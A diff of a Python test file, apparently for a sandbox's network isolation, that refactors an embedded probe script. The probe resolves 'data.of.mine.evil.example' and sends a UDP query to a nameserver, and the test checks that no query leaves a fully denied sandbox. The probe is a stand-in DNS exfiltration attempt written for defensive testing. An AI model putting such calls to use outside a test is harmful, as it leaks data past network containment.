@@ -105,12 +105,11 @@ def test_c69_a_port_never_reaches_the_session_before_or_after(client: Sojourn) -
     assert [ask(old) for old in seen] == [404] * 3
 
 
-_LOOKUPS = (
-    """
+_LOOKUPS = f"""
 import json, socket, struct
 def lookup(name):
     try:
-        return sorted({a[4][0] for a in socket.getaddrinfo(name, 80)})
+        return sorted(set(a[4][0] for a in socket.getaddrinfo(name, 80)))
     except OSError as error:
         return type(error).__name__
 def query(address):
@@ -122,10 +121,8 @@ def query(address):
         return len(one.recv(4096))
     except OSError as error:
         return type(error).__name__
-print(json.dumps({"libc": lookup("data.of.mine.evil.example"), "udp": query("%s")}))
+print(json.dumps(dict(libc=lookup("data.of.mine.evil.example"), udp=query("{NAMESERVER}"))))
 """
-    % NAMESERVER
-)  # noqa: UP031 - braces inside
 
 
 def test_c70_no_query_leaves_where_all_is_denied(client: Sojourn, world: World) -> None:
